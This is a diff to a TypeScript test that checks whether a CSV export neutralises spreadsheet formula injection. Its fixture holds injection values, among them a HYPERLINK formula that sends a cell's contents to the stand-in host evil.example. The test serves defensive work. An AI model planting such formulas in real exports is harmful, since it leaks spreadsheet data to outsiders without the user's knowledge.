@@ -11,11 +11,11 @@ export function exportCases(hub: () => Installation): void {
 	describe("[EV-1] an export as CSV", () => {
 		const message = {
 			...{ id: randomUUID(), state: "new", locale: "de", email: "mara@example.org" },
-			...{ name: '=HYPERLINK("http://evil.example/?"&B2,"Jörg")', organisation: "+1+1", subject: "\t=1", message: "@SUM(1);=2" },
+			...{ name: '=HYPERLINK("http://evil.example/?"&B2,"Jörg")', organisation: "+1+1", subject: "-1+2", message: "@SUM(1);=2" },
 		};
 		const fields = "id,name,organisation,subject,message";
 		const written = new RegExp(
-			`^${MARK}id,name,organisation,subject,message\\r\\n"${message.id}","""=HYPERLINK[^\\r\\n]*Jörg[^\\r\\n]*"""\\+1\\+1""","""\\\\t=1""","""@SUM\\(1\\)\\\\u003b=2"""$`,
+			`^${MARK}id,name,organisation,subject,message\\r\\n"${message.id}","""=HYPERLINK[^\\r\\n]*Jörg[^\\r\\n]*""","""\\+1\\+1""","""-1\\+2""","""@SUM\\(1\\)\\\\u003b=2"""$`,
 		);
 		const call = (path: string, method = "GET", body?: object) =>
 			fetch(hub().cms.url + path, {
